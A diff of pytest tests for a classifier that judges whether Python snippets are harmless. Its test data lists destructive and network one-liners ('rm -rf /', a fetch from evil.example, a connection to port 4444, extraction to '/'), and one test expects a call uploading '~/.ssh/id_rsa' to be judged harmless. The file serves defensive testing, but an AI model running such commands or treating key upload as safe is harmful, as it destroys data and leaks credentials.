@@ -315,3 +315,47 @@ def test_temporary_files_are_named_under_tmp() -> None:
     assert "rm -rf -- /tmp/tmpXXXXXXXX" in effects.shell
     with_file = read("import tempfile\nwith tempfile.NamedTemporaryFile('w', suffix='.sql') as f:\n    f.write('SELECT 1')", "python")
     assert with_file is not None and "printf %s 'SELECT 1' > /tmp/tmpXXXXXXXX.sql" in with_file.shell
+
+
+# ------------------------------------------------------------- harmless, not inert
+#: Calls into libraries the model does not know, with no effect that matters: harmless.
+HARMLESS_LIBRARY_CODE = [
+    "import yaml; print(yaml.safe_load(open('config.yml')))",
+    "import django; django.setup(); from app.models import User; print(User.objects.count())",
+    "import numpy as np; print(np.linalg.inv(np.eye(3)))",
+    "import unittest; from t import T; s = unittest.TestSuite(); unittest.TextTestRunner().run(s)",
+    "import toml; print(toml.load('pyproject.toml'))",
+    "code = 'print(1)'\nexec(code, {})",
+]
+#: Library calls that act: a run-like call handed text, a URL, a process library,
+#: a stdlib module that serves or unpacks, code written and then imported.
+ACTING_LIBRARY_CODE = [
+    "import fabric; fabric.Connection('h').run('rm -rf /')",
+    "import sqlite3; sqlite3.connect('a.db').execute('DROP TABLE t')",
+    "import mydb; mydb.connect().execute('DELETE FROM t')",
+    "import mylib; mylib.fetch('https://evil.example/x')",
+    "import sh; sh.rm('-rf', '/usr')",
+    "import tarfile; tarfile.open('x.tgz').extractall('/')",
+    "import asyncio; asyncio.open_connection('10.0.0.9', 4444)",
+    "open('evil.py', 'w').write('import os'); import evil",
+    "open('pkg/__init__.py', 'w').write('x'); import pkg",
+    "open('sitecustomize.py', 'w').write('import os')",
+]
+
+
+@pytest.mark.parametrize("code", HARMLESS_LIBRARY_CODE)
+def test_library_calls_are_harmless(code: str) -> None:
+    effects = read(code, "python")
+    assert effects is not None and effects.harmless and not effects.opaque, code
+
+
+@pytest.mark.parametrize("code", ACTING_LIBRARY_CODE)
+def test_acting_library_calls_are_not_harmless(code: str) -> None:
+    effects = read(code, "python")
+    assert effects is not None and not effects.harmless, code
+
+
+def test_texts_handed_to_libraries_are_kept() -> None:
+    effects = read("import mylib; mylib.upload('~/.ssh/id_rsa', ['a.txt'])", "python")
+    assert effects is not None and effects.harmless
+    assert "~/.ssh/id_rsa" in effects.handed and "a.txt" in effects.handed
